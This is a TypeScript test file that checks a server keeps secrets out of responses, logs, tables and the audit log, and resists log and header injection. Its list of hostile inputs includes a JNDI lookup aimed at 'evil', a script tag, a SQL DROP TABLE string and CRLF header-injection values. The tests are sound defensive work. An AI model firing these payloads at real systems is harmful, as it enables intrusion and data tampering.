import net from 'node:net';
import { createApiKey } from '@tidewire/access/api-key';
import { totpCode } from '@tidewire/testing/totp-code';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { callableRoutes, callRoute, startWholeServer, type WholeServer } from './whole-server.fixture.js';

let server: WholeServer;
let forPeople: WholeServer;

beforeAll(async () => {
  [server, forPeople] = await Promise.all([startWholeServer(), startWholeServer({ forPeople: true })]);
});
afterAll(() => Promise.all([server.close(), forPeople.close()]));

const word = (n: number) => `canary${String(n).padStart(2, '0')}zQ7`;
const key = createApiKey('canary00zQ7x');
/** Everything that is secret, each with a word that is searched for. */
const canaries = {
  key: key.text.slice(16, 48),
  bearer: word(1),
  ticket: `tk_${word(2)}${'a'.repeat(21)}`,
  token: word(3),
  cookie: word(4),
  session: word(5),
  jwt: `eyJhbGciOiJIUzI1NiJ9.${Buffer.from(word(6)).toString('base64url')}.${word(6)}`,
  password: word(7),
  secret: word(8),
  setupToken: word(9),
  databaseUrl: `postgresql://ada:${word(10)}@127.0.0.1:1/x`,
  redisUrl: `redis://:${word(11)}@127.0.0.1:1`,
  webhook: `whsec_${word(12)}`,
  idempotency: word(13),
};
const searched = [
  canaries.key,
  ...Array.from({ length: 12 }, (_, n) => word(n + 1)),
  Buffer.from(word(6)).toString('base64url'),
];

const headerSets: Record<string, string>[] = [
  { 'x-apikey': key.text },
  {
    authorization: `Bearer ${canaries.bearer}`,
    cookie: `tidewire_session=${canaries.cookie}; other=${canaries.session}`,
  },
  { authorization: `Bearer ${canaries.jwt}`, cookie: `tidewire_session=${canaries.jwt}` },
];
const queries = [
  '',
  `?apikey=${key.text}&ticket=${canaries.ticket}`,
  `?token=${canaries.token}`,
  `?jwt=${canaries.jwt}&rt-apikey=${key.text}`,
  `?ticket=${canaries.ticket}`,
];
const body = {
  token: canaries.setupToken,
  email: 'ada@example.org',
  password: canaries.password,
  secret: canaries.secret,
  webhook: canaries.webhook,
};

const found = (text: string) => searched.filter((one) => text.includes(one));

/** What a driver could say when it fails: everything that is secret, in its message and in its stack. */
function failure(code: string): Error {
  const said = `${canaries.databaseUrl} ${canaries.redisUrl} Bearer ${canaries.bearer} ${canaries.webhook} ${canaries.jwt}`;
  const text = `${said} apikey=${key.text} token=${canaries.token} ticket=${canaries.ticket} password=${canaries.password} secret=${canaries.secret} tidewire_session=${canaries.cookie}`;
  return Object.assign(new Error(text), { code, detail: text, where: text, client: { password: canaries.password } });
}

/** Every read and write of Postgres fails with this until it is called again with null. */
function breakPostgres(of: WholeServer, error: Error | null): void {
  const { pool } = of.core;
  if (error === null) Reflect.deleteProperty(pool, 'query');
  else Object.assign(pool, { query: () => Promise.reject(error) });
}
afterEach(() => {
  breakPostgres(server, null);
  breakPostgres(forPeople, null);
});

describe('fourteen secrets through every route', () => {
  it('stand in no answer and in no line of the log', async () => {
    expect(Object.keys(canaries)).toHaveLength(14);
    let tried = 0;
    for (const route of callableRoutes())
      for (const headers of headerSets)
        for (const query of queries) {
          const answer = await callRoute(server.url, route, { headers, query, body });
          expect([route.name, query, found(answer.text + JSON.stringify([...answer.headers]))]).toEqual([
            route.name,
            query,
            [],
          ]);
          tried += 1;
        }
    expect(tried).toBeGreaterThan(1_000);
    expect(found(server.lines.join('\n'))).toEqual([]);
  }, 60_000);

  it('stand nowhere either when Postgres fails and its driver says all of them, with good credentials too', async () => {
    for (const of of [server, forPeople]) {
      breakPostgres(of, failure('XX000'));
      const before = of.lines.length;
      const good: Record<string, string>[] = [{ 'x-apikey': of.key.key }, { cookie: of.cookie }];
      for (const route of callableRoutes())
        for (const headers of [...headerSets, ...good]) {
          const answer = await callRoute(of.url, route, { headers, body, query: `?token=${canaries.token}` });
          expect([route.name, found(answer.text)]).toEqual([route.name, []]);
        }
      breakPostgres(of, null);
      expect(of.lines.length).toBeGreaterThan(before + 20);
      expect(found(of.lines.join('\n'))).toEqual([]);
      expect(of.lines.join('\n')).not.toContain(of.key.key.slice(16));
    }
  }, 60_000);
});

describe('the secrets of a life: what people and applications are given, and what they choose', () => {
  const chosen = {
    admin: 'a password of one admin',
    nextAdmin: 'another password of that admin',
    user: 'a password of one user',
    nextUser: 'another password of that user',
    lastUser: 'a third password of that user',
    shared: 'the secret that an issuer shares with us',
  };

  it('stand in no column of any table, in no line of the log and not in the audit log', async () => {
    const { url, cookie, key, core, lines } = server;
    const send = async (method: string, path: string, body: unknown, headers: Record<string, string>) => {
      const init = { method, body: JSON.stringify(body), headers: { 'content-type': 'application/json', ...headers } };
      const answer = await fetch(url + path, init);
      const text = await answer.text();
      expect([path, answer.status, text]).toEqual([path, expect.toSatisfy((status) => status < 300), text]);
      return { answer, body: text === '' ? {} : JSON.parse(text) };
    };
    const asOwner = async (method: string, path: string, body: unknown) =>
      (await send(method, `/api${path}`, body, { cookie })).body;
    const asApp = async (path: string, body: unknown, headers: Record<string, string> = {}) =>
      (await send('POST', path, body, { 'x-apikey': key.key, ...headers })).body;

    const { ticket } = await asApp('/realtime/ticket', {});
    const made = await asOwner('POST', '/databases/default/keys', { name: 'a', rest: ['PUT:users'] });
    const rotated = await asOwner('POST', `/databases/default/keys/${made.id}/rotate`, { overlapSeconds: 600 });
    await asOwner('PUT', '/databases/default/auth/secret', { secret: chosen.shared });
    await asOwner('PATCH', '/databases/default/settings', { auth: { signUp: true } });

    const user = { email: 'ada@example.org', password: chosen.user };
    const signedUp = await asApp('/auth/signup', user);
    const loggedIn = await asApp('/auth/login', user);
    const refreshed = await asApp('/auth/refresh', { refresh: loggedIn.refresh });
    const bearer = { authorization: `Bearer ${refreshed.jwt}` };
    await asApp('/auth/password', { current: chosen.user, password: chosen.nextUser }, bearer);
    const { token: reset } = await asApp('/auth/reset-token', { email: user.email }, { 'x-apikey': rotated.key });
    await asApp('/auth/reset', { token: reset, password: chosen.lastUser });
    const created = await asOwner('POST', '/databases/default/users', { email: 'bob@example.org' });

    const invite = await asOwner('POST', '/invites', { email: 'vera@example.org', role: 'editor' });
    const accepted = await send('POST', '/api/invites/accept', { token: invite.token, password: chosen.admin }, {});
    const session = accepted.answer.headers.getSetCookie()[0]?.split(';')[0] ?? '';
    const asVera = async (method: string, path: string, body: unknown) =>
      (await send(method, `/api${path}`, body, { cookie: session })).body;
    const { secret, enrolment } = await asVera('POST', '/admin/totp', { password: chosen.admin });
    const code = totpCode(secret, Date.now());
    const { recoveryCodes } = await asVera('PUT', '/admin/totp', { enrolment, code });
    await asVera('POST', '/admin/password', { password: chosen.admin, newPassword: chosen.nextAdmin });

    const given: Record<string, string> = {
      ...chosen,
      key: secretOf(key.key),
      made: secretOf(made.key),
      rotated: secretOf(rotated.key),
      ticket,
      signUpJwt: signatureOf(signedUp.jwt),
      refreshedJwt: signatureOf(refreshed.jwt),
      signUpRefresh: signedUp.refresh,
      refresh: loggedIn.refresh,
      nextRefresh: refreshed.refresh,
      reset,
      created: created.reset.token,
      invite: invite.token,
      session: signatureOf(session),
      ownSession: signatureOf(cookie),
      totp: secret,
      enrolment,
      ...Object.fromEntries(recoveryCodes.map((text: string, index: number) => [`recovery ${index}`, text])),
    };
    for (const [name, text] of Object.entries(given)) expect([name, text?.length > 9]).toEqual([name, true]);

    const { rows: tables } = await core.pool.query<{ name: string }>(
      "SELECT format('%I.%I', table_schema, table_name) AS name FROM information_schema.tables WHERE table_type = 'BASE TABLE' AND table_schema NOT IN ('pg_catalog', 'information_schema')",
    );
    expect(tables.length).toBeGreaterThan(20);
    const places = new Map([['the log', lines.join('')]]);
    for (const { name } of tables) {
      const { rows } = await core.pool.query<{ row: string }>(`SELECT t::text AS row FROM ${name} t`);
      places.set(name, rows.map(({ row }) => row).join('\n'));
    }
    const exported = await fetch(`${url}/api/audit/export`, { headers: { cookie } });
    const audit = await exported.text();
    for (const action of ['auth.secret', 'key.rotate', 'admin.password', 'admin.totp', 'user.create'])
      expect(audit).toContain(action);
    places.set('the audit log', audit);
    // What is no secret is found, so the search is none in vain.
    for (const place of ['public.documents', 'public.admins', 'the audit log'])
      expect([place, /ada@example\.org|vera@example\.org/.test(places.get(place) ?? '')]).toEqual([place, true]);
    for (const [place, text] of places)
      for (const [name, one] of Object.entries(given))
        for (const form of formsOf(one)) expect([place, name, text.includes(form)]).toEqual([place, name, false]);
  });
});

/** Of a key what nobody but its holder knows. */
function secretOf(key: string): string {
  return key.slice(16);
}

/** What makes a token or a cookie worth something: its last part. */
function signatureOf(token: string): string {
  return token.split('.').at(-1) ?? '';
}

/** A text as it is, and as the encodings in which bytes are stored would show it. */
function formsOf(text: string): string[] {
  const bytes = Buffer.from(text);
  return [text, bytes.toString('hex'), bytes.toString('base64'), bytes.toString('base64url')];
}

/** Sends a request head as it is, and resolves when it is answered or refused. */
function sendRaw(of: WholeServer, head: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect(of.port, '127.0.0.1', () => socket.write(Buffer.from(head, 'latin1')));
    let text = '';
    socket.on('data', (part) => {
      text += part.toString('latin1');
    });
    socket.on('error', () => resolve(text));
    socket.on('close', () => resolve(text));
  });
}

const ansi = '\u001b[31mred\u001b[0m';
const fakeLine = '{"level":"info","msg":"admin signed in"}';
const hostileTexts = [
  ansi,
  '\u001b]0;title\u0007',
  '\u001b[2J\u001b[H',
  '\u009b31m',
  'a\rb',
  'a\nb',
  'a\r\nX-Injected: 1',
  'a%0d%0aSet-Cookie:%20x=1',
  'a%0afake',
  'a%00b',
  fakeLine,
  `x"}\n${fakeLine}`,
  `%0a${encodeURIComponent(fakeLine)}`,
  '12:00:00 info  All is well.',
  '\u2028line',
  '\u0000',
  '\u007f',
  '\u0008\u0008\u0008',
  '\t\t',
  '\u202egnp.exe',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is meant.
  '${jndi:ldap://evil}',
  '<script>alert(1)</script>',
  '%s%s%n',
  "'; DROP TABLE log; --",
  'x'.repeat(10_000),
  'x'.repeat(100_000),
  'é'.repeat(2_000),
  '\\u000a',
  '[secret]',
  '__proto__',
];

describe('texts that want to be lines of the log', () => {
  it.each(hostileTexts.map((text, index) => [index + 1, JSON.stringify(text).slice(0, 40), text] as const))(
    'number %i, %s, make one line for each accident, and nothing in it can be taken for another',
    async (_number, _shown, text) => {
      for (const of of [server, forPeople]) {
        breakPostgres(of, Object.assign(new Error(`a driver's words: ${text}`), { code: 'XX000' }));
        const before = of.lines.length;
        const heads = [
          `GET /rest/harbours/${text} HTTP/1.1\r\nHost: x\r\nx-apikey: ${of.key.key}\r\nConnection: close\r\n\r\n`,
          `GET /rest/harbours HTTP/1.1\r\nHost: x\r\nx-apikey: ${of.key.key}\r\nUser-Agent: ${text}\r\nX-Request-Id: ${text}\r\nConnection: close\r\n\r\n`,
        ];
        const answers: string[] = [];
        for (const head of heads) answers.push(await sendRaw(of, head));
        breakPostgres(of, null);
        // Tasks beside the requests fail as well, in lines of their own.
        const written = of.lines.slice(before).filter((line) => line.includes('request failed'));
        expect(written.length).toBeLessThanOrEqual(
          answers.filter((answer) => / 500 /.test(answer.split('\r\n')[0] ?? '')).length,
        );
        for (const line of written) {
          // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the ones that must not be there.
          expect(line.slice(0, -1)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
          const heads = line.slice(0, -1).split('\n');
          if (of === server) expect(() => JSON.parse(line)).not.toThrow();
          if (of === server) expect(heads).toHaveLength(1);
          // What belongs to an error stands further in.
          for (const more of heads.slice(1)) expect(more.startsWith('  ')).toBe(true);
        }
        for (const answer of answers) {
          const [head = ''] = answer.split('\r\n\r\n');
          expect(head.toLowerCase()).not.toMatch(/^(x-injected|set-cookie):/m);
          const id = /^x-request-id: (.*)$/im.exec(head)?.[1];
          if (id !== undefined) expect(id).toMatch(/^[\w-]{8,64}$/);
        }
      }
    },
  );

  it('are thirty', () => expect(hostileTexts).toHaveLength(30));
});

/** One of each class of Postgres's errors, and more where a class has several meanings (its manual, appendix A). */
const states =
  '01000 02000 03000 08000 08003 08006 0A000 0B000 20000 21000 22000 22001 22003 22P02 22021 23000 23502 23503 23505 23514 25000 25006 28000 28P01 2BP01 2D000 34000 3D000 3F000 40001 40P01 42501 42601 42703 42P01 53100 53200 53300 54000 55P03 57014 57P01 58030 F0000 HV000 P0001 XX000 XX001'.split(
    ' ',
  );

describe('an error of Postgres', () => {
  it.each(states)('of state %s tells the caller nothing of our insides, and the log its request', async (state) => {
    const inside = 'relation "documents_internal" SELECT hash FROM api_keys WHERE';
    const error = Object.assign(new Error(inside), { code: state, severity: 'ERROR', table: 'documents_internal' });
    breakPostgres(server, error);
    for (const path of ['/rest/harbours', '/rest/harbours/577c0bd7a1c2d3e4f5a6b7c8', '/events?since=0']) {
      const before = server.lines.length;
      const answer = await fetch(server.url + path, { headers: { 'x-apikey': server.key.key } });
      const text = await answer.text();
      expect([400, 409, 422, 500, 503]).toContain(answer.status);
      expect(text).not.toMatch(/documents_internal|SELECT|api_keys|\n? +at |node_modules|\.ts|\.js/);
      const { code, requestId } = JSON.parse(text) as { code: string; requestId: string };
      expect([code === 'internal', requestId]).toEqual([answer.status === 500, answer.headers.get('x-request-id')]);
      const written = server.lines.slice(before).join('');
      if (answer.status === 500) expect(written).toContain(requestId);
    }
  });

  it('is tried in more than forty states', () => expect(states.length).toBeGreaterThan(40));
});
